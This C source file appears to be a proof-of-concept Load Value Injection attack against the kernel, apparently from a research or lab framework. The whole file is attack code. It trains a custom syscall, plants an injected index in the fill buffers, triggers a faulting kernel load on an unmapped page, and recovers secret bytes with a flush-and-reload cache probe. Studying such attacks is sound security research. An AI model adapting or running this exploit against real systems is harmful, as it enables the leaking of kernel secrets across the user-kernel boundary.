/*
 * Load value injection (Van Bulck et al., 2020) into the kernel: a load of the kernel that faults
 * goes on with what this process has left in the fill buffers. The load is one of user memory, of a
 * page that is not there, so the kernel never gets a value and gives up; before that, it has used
 * the injected index with a table.
 */
#include "attack.h"

#include <sys/mman.h>

#include "gadget.h"
#include "secret.h"

enum { TRAININGS = 6, LINES = 32, LINE_WORDS = 8, PAGE_BYTES = 4096 };

static const uint8_t *array;
static uint64_t *absent, injected[LINES][LINE_WORDS] __attribute__((aligned(64)));

static int sample(int index)
{
	static const uint64_t permitted = 1;
	const uint8_t *probe = array + SHARED_PROBE;
	uint64_t value = options.address + index - options.table;

	for (int i = 0; i < TRAININGS; i++)
		syscall(LVI_CALL, &permitted);
	use_secret(index);
	for (int i = 0; i < LINES; i++) {
		for (int word = 0; word < LINE_WORDS; word++)
			injected[i][word] = value;
	}
	flush_probe(probe);
	flush(array + SHARED_LIMIT);
	for (int i = 0; i < LINES; i++)
		flush(injected[i]);
	memory_fence();
	for (int i = 0; i < LINES; i++)
		touch(injected[i]);
	syscall(LVI_CALL, absent);
	return reload_probe(probe);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.address || !options.table)
		errx(2, "expected --address and --table");
	open_secret();
	array = map_gadget(options.gadget);
	absent = mmap(NULL, PAGE_BYTES, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (absent == MAP_FAILED)
		err(1, "mmap");
	calibrate();
	recover(sample, (struct patience){ .samples = 40, .lead = 2 }, 1);
	return 0;
}
